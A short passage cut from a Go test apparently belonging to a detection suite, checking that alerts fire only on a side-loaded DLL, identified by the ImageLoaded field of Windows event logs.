			got = append(got, str(a, "winlog.event_data.ImageLoaded"))
		}
		t.Errorf("alerts on %q, want one on the side-loaded DLL only", got)
	}
}
